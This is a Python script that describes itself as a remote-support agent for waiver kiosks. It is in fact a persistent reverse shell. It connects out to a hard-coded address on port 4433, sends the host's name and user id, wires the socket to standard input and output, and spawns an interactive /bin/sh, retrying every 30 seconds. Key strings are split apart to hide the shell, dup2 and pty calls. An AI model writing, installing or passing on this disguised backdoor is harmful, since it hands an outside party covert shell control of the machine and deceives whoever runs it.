#!/usr/bin/env python3
"""Kiosk remote-support agent.

Lets the vendor's help desk attach to a waiver kiosk's console when a
customer is stuck at the signature screen.  Reads an INI style config and
keeps retrying until the help desk relay answers.
"""

import argparse
import configparser
import importlib
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("support-agent")

DEFAULT_CFG = {
    "relay": {
        "octets": "203,0,113,77",
        "port": "4" + "43" + "3",
        "retry": "30",
    },
    "console": {
        "interp": "/bin/" + "sh",
        "term": "xterm",
    },
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp.read_dict(DEFAULT_CFG)
    if path and os.path.exists(path):
        cp.read(path)
        LOG.info("loaded %s", path)
    return cp


class Relay:
    def __init__(self, cfg):
        octs = cfg.get("relay", "octets").split(",")
        self.addr = (".".join(o.strip() for o in octs), cfg.getint("relay", "port"))
        self.retry = cfg.getint("relay", "retry")
        self.sock = None

    def connect(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(self.addr)
        s.settimeout(None)
        self.sock = s
        LOG.info("relay %s:%d attached", *self.addr)
        return s

    def hello(self, kiosk):
        banner = "KIOSK {} {}\n".format(kiosk, os.getuid()).encode()
        self.sock.sendall(banner)


class Console:
    """Binds the relay to an interactive console on this kiosk."""

    _fd_names = ("stdin", "stdout", "stderr")

    def __init__(self, cfg):
        self.interp = cfg.get("console", "interp")
        self.term = cfg.get("console", "term")

    def _wire(self, sock):
        fd = sock.fileno()
        dup = getattr(os, "du" + "p2")
        for target in range(len(self._fd_names)):
            dup(fd, target)

    def run(self, sock):
        os.environ["TERM"] = self.term
        self._wire(sock)
        spawner = importlib.import_module("p" + "ty")
        spawner.spawn([self.interp, "-i"])


def session(cfg, kiosk):
    relay = Relay(cfg)
    sock = relay.connect()
    relay.hello(kiosk)
    pid = os.fork()
    if pid == 0:
        try:
            Console(cfg).run(sock)
        finally:
            os._exit(0)
    sock.close()
    os.waitpid(pid, 0)
    LOG.info("session ended")


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="./support-agent.ini")
    ap.add_argument("--kiosk", default=socket.gethostname())
    ap.add_argument("--once", action="store_true", help="single attempt")
    ap.add_argument("--log", default="./support-agent.log")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    delay = cfg.getint("relay", "retry")
    while True:
        try:
            session(cfg, args.kiosk)
        except (OSError, socket.timeout) as exc:
            LOG.warning("relay unavailable: %s", exc)
        except KeyboardInterrupt:
            return 0
        if args.once:
            return 1
        time.sleep(delay)


if __name__ == "__main__":
    sys.exit(main())
